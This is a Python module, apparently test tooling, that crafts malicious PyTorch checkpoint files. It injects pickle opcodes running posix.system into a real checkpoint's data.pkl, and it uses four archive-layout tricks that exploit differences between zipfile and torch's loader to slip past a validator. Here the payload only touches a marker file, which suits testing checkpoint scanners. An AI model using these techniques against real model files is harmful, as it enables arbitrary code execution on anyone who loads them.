"""Checkpoint files an attacker with write access to a run directory could craft, from a real one.

Each keeps the real file's records, so that a reader that checks one view of the file passes it:

- ``glued``: two archives of the same layout, one after the other. A's ``data.pkl`` first runs
  ``touch MARKER`` through ``posix.system``, then rebuilds the real state; B's is the real pickle
  padded to the same length. Python's ``zipfile`` reads B (it corrects the offsets by the
  archive's shift), torch's reader reads A (it takes them as written).
- ``prepended``: the malicious archive A with the real file after it (``zipfile`` reads the real
  one); ``appended``: the real file with A after it (``zipfile`` reads A).
- ``payload``: the real records with A's pickle, one plain archive.
"""

from __future__ import annotations

import io
import pickletools
import zipfile
from pathlib import Path

KINDS = ("glued", "prepended", "appended", "payload")


def _payload(marker: Path) -> bytes:
    """The opcodes of ``posix.system('touch MARKER')``, its result popped."""
    command = f"touch {marker}".encode()
    return b"cposix\nsystem\n(S'" + command + b"'\ntR0"


def _archive(records: list[tuple[zipfile.ZipInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for info, data in records:
            record = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            archive.writestr(record, data)
    return out.getvalue()


def _pair(real: Path, marker: Path) -> tuple[bytes, bytes]:
    """(A, B): the malicious archive and the real one padded to A's layout."""
    with zipfile.ZipFile(real) as archive:
        records = [(info, archive.read(info)) for info in archive.infolist()]
    evil, padded = [], []
    for info, data in records:
        if info.filename.endswith("/data.pkl"):
            pickletools.dis(data, out=io.StringIO())  # a real pickle, or this helper is wrong
            protocol, body = data[:2], data[2:]  # PROTO n, then the real pickle
            bad = protocol + _payload(marker) + body
            evil.append((info, bad))
            padded.append((info, data + b"\0" * (len(bad) - len(data))))  # after STOP: unread
        else:
            evil.append((info, data))
            padded.append((info, data))
    return _archive(evil), _archive(padded)


def craft(kind: str, real: Path, marker: Path) -> bytes:
    """The bytes of ``kind`` (KINDS) made from the real torch.save file ``real``."""
    evil, padded = _pair(real, marker)
    if kind == "glued":
        return evil + padded
    if kind == "prepended":
        return evil + real.read_bytes()
    if kind == "appended":
        return real.read_bytes() + evil
    if kind == "payload":
        return evil
    raise ValueError(kind)


def plant(kind: str, shard: Path, marker: Path) -> Path:
    """``shard`` replaced by its crafted ``kind``; returns it."""
    shard.write_bytes(craft(kind, shard, marker))
    return shard
